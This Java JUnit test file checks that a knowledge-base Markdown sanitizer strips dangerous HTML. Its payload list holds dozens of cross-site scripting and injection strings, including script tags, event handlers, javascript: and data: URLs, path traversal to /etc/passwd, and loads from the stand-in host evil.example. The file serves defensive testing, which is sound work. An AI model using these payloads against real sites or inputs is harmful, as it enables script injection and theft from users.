package whatnow.knowledge.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {

    static final Pattern TAG = Pattern.compile("<(/?)([a-zA-Z][a-zA-Z0-9]*)([^>]*)>");
    static final Pattern ATTRIBUTE = Pattern.compile("([a-zA-Z-]+)=\"([^\"]*)\"");
    static final List<String> TAGS = List.of(
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "p",
            "div",
            "blockquote",
            "hr",
            "br",
            "ul",
            "ol",
            "li",
            "em",
            "strong",
            "code",
            "pre",
            "a",
            "img",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "input",
            "del",
            "sup",
            "span",
            "section");

    static Stream<String> payloads() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<iframe src=javascript:alert(1)></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
                "<embed src=javascript:alert(1)>",
                "<base href=//evil.example/>",
                "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<style>@import '//evil.example/x.css';</style>",
                "<form action=//evil.example><input name=a><button>go</button></form>",
                "<input type=checkbox autofocus onfocus=alert(1)>",
                "<a href=\"javascript:alert(1)\">a</a>",
                "<details open ontoggle=alert(1)>",
                "<body onload=alert(1)>",
                "<video><source onerror=alert(1)></video>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<?php echo 1 ?>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "[a](javascript:alert(1))",
                "[a](JaVaScRiPt:alert(1))",
                "[a](java&#10;script:alert(1))",
                "[a](&#106;avascript:alert(1))",
                "[a](<java\tscript:alert(1)>)",
                "[a](vbscript:msgbox(1))",
                "[a](data:text/html,<script>alert(1)</script>)",
                "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[a](//evil.example/x)",
                "[a](\\\\evil.example/x)",
                "[a](/\\evil.example/x)",
                "[a](///evil.example/x.md)",
                "[a](//evil.example/fail-back.md)",
                "[a](file:///etc/passwd)",
                "[a](ftp://evil.example/)",
                "[a](https:evil.example)",
                "[a](http://)",
                "[a](blob:https://x/y)",
                "<javascript:alert(1)>",
                "<data:text/html,x>",
                "![a](javascript:alert(1))",
                "![a](data:image/svg+xml;base64,PHN2Zy8+)",
                "![a](//evil.example/pixel.png)",
                "![a](https://evil.example/pixel.png)",
                "![a](../../images/../../../etc/passwd)",
                "[a](x \"onmouseover=alert(1)\")",
                "[a](https://x.example/\"onmouseover=alert(1))",
                "[a]: javascript:alert(1)\n\n[a]",
                "```\"><script>alert(1)</script>\ncode\n```",
                "```sh\" onclick=\"alert(1)\ncode\n```",
                "## a {#x\" onclick=\"alert(1)}",
                "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
                "- [x] <script>alert(1)</script>",
                "> [!WARNING]\n> <script>alert(1)</script>",
                "> [!WARNING\" onclick=alert(1)]\n> a",
                "{{constructor.constructor('alert(1)')()}}",
                "`<script>alert(1)</script>`",
                "<<script>alert(1);//<</script>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "\u0000<script>alert(1)</script>",
                "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "&lt;script&gt;alert(1)&lt;/script&gt;");
    }

    @ParameterizedTest
    @MethodSource("payloads")
    @DisplayName("nothing can run, load or lead away (S-1)")
    void nothingCanRunLoadOrLeadAway(String payload) {
        for (var markdown : List.of(payload, "Words " + payload + " words", "- " + payload, "> " + payload)) {
            onlyHarmless(SafeHtml.of(markdown));
        }
    }

    static void onlyHarmless(String html) {
        TAG.matcher(html).results().forEach(tag -> {
            assertThat(TAGS).as(html).contains(tag.group(2));
            ATTRIBUTE.matcher(tag.group(3)).results().forEach(it -> onlyHarmless(html, it.group(1), it.group(2)));
            assertThat(ATTRIBUTE.matcher(tag.group(3)).replaceAll("")).as(html).matches(" *(?: /)?");
        });
        assertThat(TAG.matcher(html).replaceAll("").replace("<!-- -->", ""))
                .as(html)
                .doesNotContain("<");
    }

    static void onlyHarmless(String html, String name, String value) {
        switch (name) {
            case "href" ->
                assertThat(value)
                        .as(html)
                        .matches(
                                "#[a-z0-9-]+|/kb/[a-z0-9-]+(#[a-z0-9-]+)?|/kb/files/[0-9a-f]{32}|https?://[A-Za-z0-9].*");
            case "src" -> assertThat(value).as(html).matches("/kb/files/[0-9a-f]{32}");
            case "id" -> assertThat(value).as(html).matches("[a-z0-9-]+");
            case "type" -> assertThat(value).as(html).isEqualTo("checkbox");
            default ->
                assertThat(name)
                        .as(html)
                        .isIn(
                                "class",
                                "rel",
                                "title",
                                "alt",
                                "align",
                                "start",
                                "checked",
                                "disabled",
                                "aria-label",
                                "role",
                                "tabindex");
        }
    }

    @ParameterizedTest
    @CsvSource({
        "../runbooks/fail-back.md#when, /kb/fail-back#when",
        "fail-back.md, /kb/fail-back",
        "./fail-back.md#when, /kb/fail-back#when",
        "#steps, #steps"
    })
    void linksBetweenArticlesLeadToTheirPages(String written, String href) {
        assertThat(SafeHtml.of("[go](%s)".formatted(written)))
                .isEqualTo("<p><a href=\"%s\">go</a></p>\n".formatted(href));
    }

    @Test
    void linksToTheWebTellNobodyWhereTheyCameFrom() {
        assertThat(SafeHtml.of("[docs](https://docs.example.org/a?b=c)"))
                .contains("href=\"https://docs.example.org/a?b&#61;c\"")
                .contains("rel=\"noopener noreferrer\"");
    }

    @ParameterizedTest
    @ValueSource(strings = {"[go](mailto:a@b.c)", "[go](javascript:x)", "[go](//x.y/z)", "![go](https://x.y/z.png)"})
    void aLinkThatMayNotBeKeepsItsWords(String markdown) {
        assertThat(SafeHtml.of(markdown)).isEqualTo("<p>go</p>\n");
    }

    @ParameterizedTest
    @CsvSource({"[go](other.txt), other.txt", "[go](/admin), /admin", "[go](../../x), ../../x", "[[go]], go"})
    void aLinkToNothingKeepsItsWordsAndSaysSo(String markdown, String to) {
        assertThat(SafeHtml.of(markdown))
                .isEqualTo("<p><span class=\"dead-link\" title=\"There is nothing at %s here.\">go</span></p>\n"
                        .formatted(to));
    }

    @Test
    void footnotesLeadThereAndBackWhateverTheyAreCalled() {
        var html = SafeHtml.of("Lag[^1] and [^My_Note].\n\n[^1]: Bytes.\n\n[^My_Note]: Seconds.\n");

        assertThat(html)
                .contains("<sup class=\"footnote-ref\"><a href=\"#fn-1\" id=\"fnref-1\"")
                .contains("<li id=\"fn-1\">", "Bytes.", "href=\"#fnref-1\" class=\"footnote-backref\"")
                .contains("#fn-my-5f-note", "id=\"fn-my-5f-note\"");
    }

    @Test
    void addressesAreLinksAndTwoTildesStrikeOut() {
        assertThat(SafeHtml.of("See https://docs.example.org/a, ~~not this~~, in ~5 to ~6 minutes."))
                .contains("href=\"https://docs.example.org/a\">https", "<del>not this</del>")
                .contains("~5 to ~6 minutes");
    }

    @Test
    void aSecondHeadingOfTheSameIdCanBeReached() {
        var html = SafeHtml.of("## A {#when}\n\n## When\n\n## B {#when}\n\n## C {#when}\n");

        assertThat(html).contains("id=\"when\">A", "id=\"when-2\">B", "id=\"when-3\">C", "id=\"when-4\">When");
    }

    @Test
    void keepsHeadingIdsCodeTablesAndBoxes() {
        var html = SafeHtml.of("""
                ## Steps {#steps}

                ```sh id=a danger=false
                echo "a" && ls
                ```

                | a | b |
                |---|--:|
                | 1 | 2 |

                - [ ] open
                - [x] done
                """);

        assertThat(html)
                .contains("<h2 id=\"steps\">Steps<a class=\"anchor\" href=\"#steps\"")
                .contains("<pre><code class=\"language-sh\">")
                .contains("<td align=\"right\">2</td>")
                .contains("<input type=\"checkbox\" disabled=\"\" aria-label=\"open\" /> open")
                .contains("aria-label=\"done\" checked=\"\" /> done");
    }

    @Test
    void anAlertSaysItsKindInWords() {
        assertThat(SafeHtml.of("> [!WARNING]\n> Hot."))
                .contains("<div class=\"alert alert-warning\"><p class=\"alert-title\">Warning</p>")
                .contains("<p>Hot.</p>");
    }

    @Test
    void anOrdinaryQuoteStaysOne() {
        assertThat(SafeHtml.of("> [!WHATEVER]\n> a")).contains("<blockquote>");
        assertThat(SafeHtml.of("> a\n> [!WARNING]")).contains("<blockquote>");
    }

    @Test
    void aPageWithoutEndIsShownAsItsSource() {
        var html = SafeHtml.of("|a|b|c|d|\n|-|-|-|-|\n" + "|||||\n".repeat(160_000));

        assertThat(html).startsWith("<pre>|a|b|c|d|");
    }
}
